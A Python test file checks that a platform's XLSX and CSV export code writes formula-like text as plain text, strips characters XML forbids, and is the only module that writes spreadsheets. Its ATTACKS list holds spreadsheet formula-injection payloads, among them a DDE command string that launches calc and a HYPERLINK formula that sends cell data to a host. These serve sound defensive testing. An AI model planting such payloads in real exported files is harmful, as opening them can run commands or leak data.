"""The cells of every XLSX and CSV file the platform writes: text stays text (never a formula),
characters XML 1.0 forbids are dropped, and no module writes such a file another way."""

import csv
import io
import re
from pathlib import Path

import pytest

from sangtao.formats import tabular

SRC = Path(__file__).resolve().parents[2] / "src" / "sangtao"
ATTACKS = [
    '=HYPERLINK("http://example.com/?x="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _written(values) -> list:
    """The cells of a write-only workbook holding `values` in one row, read back."""
    from openpyxl import load_workbook

    book = tabular.workbook(write_only=True)
    sheet = book.create_sheet("Trang")
    sheet.append(tabular.sheet_row(sheet, values))
    output = io.BytesIO()
    book.save(output)
    return list(load_workbook(io.BytesIO(output.getvalue()))["Trang"][1])


@pytest.mark.parametrize("text", ATTACKS)
def test_sheet_cell_writes_a_formula_like_text_as_text(text):
    (cell,) = _written([text])

    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix is True


def test_sheet_cell_writes_error_codes_as_text_and_numbers_as_numbers():
    from decimal import Decimal

    cells = _written(["#N/A", "Máy gieo hạt", 12, Decimal("17.50"), None])

    assert [(c.data_type, c.value) for c in cells[:4]] == [
        ("s", "#N/A"),
        ("s", "Máy gieo hạt"),
        ("n", 12),
        ("n", 17.5),
    ]
    assert cells[1].quotePrefix is False


def test_sheet_cell_drops_characters_xml_forbids_instead_of_failing():
    (cell,) = _written(["Máy\x00 gieo\x07 hạt\x1b\ufffe\nmới\tcải tiến"])

    assert cell.value == "Máy gieo hạt\nmới\tcải tiến"


def test_sheet_cell_in_a_normal_workbook_keeps_text_as_text():
    from openpyxl import load_workbook

    book = tabular.workbook()
    book.active.append(tabular.sheet_row(book.active, ["=1+1", "@A1"]))
    output = io.BytesIO()
    book.save(output)
    cells = list(load_workbook(io.BytesIO(output.getvalue())).active[1])

    assert [(c.data_type, c.value) for c in cells] == [("s", "=1+1"), ("s", "@A1")]


def test_csv_writer_quotes_formula_like_text_and_keeps_numbers():
    output = io.StringIO()
    writer = tabular.CsvWriter(output)

    writer.writerow(["tiêu đề", "số"])
    writer.writerows([[text, -5] for text in ATTACKS] + [["Máy\x07 gieo hạt", 12]])

    rows = list(csv.reader(io.StringIO(output.getvalue())))
    assert rows[0] == ["tiêu đề", "số"]
    assert rows[1:-1] == [["'" + text, "-5"] for text in ATTACKS]
    assert rows[-1] == ["Máy gieo hạt", "12"]


def test_no_module_writes_a_spreadsheet_or_csv_but_the_shared_one():
    """Workbooks, their cells and CSV writers are made only in sangtao/formats/tabular.py
    (tabular.workbook, sheet_cell, CsvWriter); reading (load_workbook, csv.DictReader), styles
    and column letters are allowed anywhere."""
    writing = re.compile(
        r"csv\.(writer|DictWriter)\b|\bWorkbook\(|WriteOnlyCell|openpyxl\.cell\b"
        r"|from openpyxl import .*\bWorkbook\b|\.cell\([^)]*value="
    )
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path == SRC / "formats" / "tabular.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if writing.search(line):
                offenders.append(f"{path.relative_to(SRC)}:{number}: {line.strip()}")
    assert offenders == []
